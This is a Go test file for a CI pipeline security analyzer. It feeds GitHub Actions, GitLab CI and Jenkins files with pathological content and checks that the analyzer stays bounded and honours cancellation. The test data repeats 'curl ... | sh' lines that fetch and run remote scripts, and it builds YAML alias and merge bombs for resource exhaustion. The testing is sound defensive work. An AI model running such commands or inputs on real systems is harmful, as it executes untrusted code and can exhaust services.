package pipeline

import (
	"context"
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/socyber/codeaudit/internal/analyzer"
	"github.com/socyber/codeaudit/internal/source"
)

// TestHostileInputsAreBounded feeds large and pathological files: the
// analyzer must finish, report a bounded number of findings and say so.
func TestHostileInputsAreBounded(t *testing.T) {
	many := strings.Repeat("          curl -s https://x.example/i.sh | sh\n", 20000)
	cases := map[string]string{
		".github/workflows/many.yml":   "on: push\npermissions: {}\njobs:\n  a:\n    runs-on: x\n    steps:\n      - run: |\n" + many,
		".github/workflows/deep.yml":   "on: push\njobs: " + strings.Repeat("[", 5000) + strings.Repeat("]", 5000) + "\n",
		".github/workflows/expr.yml":   "on: issues\npermissions: {}\njobs:\n  a:\n    runs-on: x\n    steps:\n      - run: echo ${{ " + strings.Repeat("(", 10000) + " }}\n",
		".github/workflows/alias.yml":  "x: &x\n  <<: *x\non: push\njobs:\n  <<: *x\n",
		".gitlab-ci.yml":               "j:\n  script:\n" + strings.Repeat("    - curl -s https://x | sh\n", 5000),
		"extends.gitlab-ci.yml":        extendsBomb(),
		".github/workflows/merges.yml": mergeBomb(),
		"Jenkinsfile":                  strings.Repeat("sh \"${", 10000),
		"deploy.jenkinsfile":           "node {\n" + strings.Repeat("  input message: 'ok?'\n", 3000) + "}\n",
		"open.jenkinsfile":             strings.Repeat("sh(input(", 20000),
		".github/workflows/binary.yml": "\x00\x01\x02on: [",
	}
	a := New(Options{})
	for path, content := range cases {
		c := &collector{}
		f := source.File{Path: path}
		if !a.Wants(&f) {
			t.Fatalf("%s not wanted", path)
		}
		start := time.Now()
		_ = a.AnalyzeFile(context.Background(), &analyzer.Target{File: f, Content: []byte(content)}, c)
		t.Logf("%s: %d bytes in %v", path, len(content), time.Since(start))
		if len(c.findings) > 1000 {
			t.Errorf("%s: %d findings, more than the cap", path, len(c.findings))
		}
	}
}

// TestCancelledContext stops promptly with the context's error.
func TestCancelledContext(t *testing.T) {
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	c := &collector{}
	err := New(Options{}).AnalyzeFile(ctx, &analyzer.Target{File: source.File{Path: ".github/workflows/x.yml"}, Content: generatedWorkflow(0)}, c)
	if err == nil {
		t.Error("no error from a cancelled context")
	}
}

// extendsBomb builds templates that each extend all the others.
func extendsBomb() string {
	var b strings.Builder
	var names []string
	for i := range 60 {
		names = append(names, fmt.Sprintf(".t%d", i))
	}
	for _, n := range names {
		fmt.Fprintf(&b, "%s:\n  extends: [%s]\n", n, strings.Join(names, ", "))
	}
	b.WriteString("job:\n  extends: .t0\n  script: [make]\n")
	return b.String()
}

// mergeBomb builds mappings that merge the previous one many times over,
// which would double the entries at every level if merges were expanded
// without a budget.
func mergeBomb() string {
	var b strings.Builder
	b.WriteString("l0: &l0\n  a: 1\n  b: 2\n")
	for i := 1; i < 40; i++ {
		fmt.Fprintf(&b, "l%d: &l%d\n  <<: [*l%d, *l%d, *l%d, *l%d]\n", i, i, i-1, i-1, i-1, i-1)
	}
	b.WriteString("on: push\njobs:\n  <<: *l39\n")
	return b.String()
}
